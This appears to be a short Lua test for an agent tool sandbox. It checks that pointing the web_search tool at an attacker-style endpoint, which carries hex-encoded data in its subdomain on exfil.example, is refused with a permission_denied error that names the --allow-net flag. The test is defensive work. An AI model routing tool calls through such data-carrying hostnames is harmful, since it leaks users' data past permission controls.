-- adversarial: point web_search's endpoint at a name that carries data, under the default permissions
-- run: run --search-endpoint=http://73656172636820666f72.exfil.example/search {{SCRIPT}}
-- exit: 0
local r, err = Tool.try("web_search", {input = "anything"})
assert(r == nil, "web_search reached its endpoint")
assert(err.type == "permission_denied", "want permission_denied, got " .. err.type .. ": " .. err.message)
assert(err.message:find("--allow-net=", 1, true), "message does not name the flag: " .. err.message)
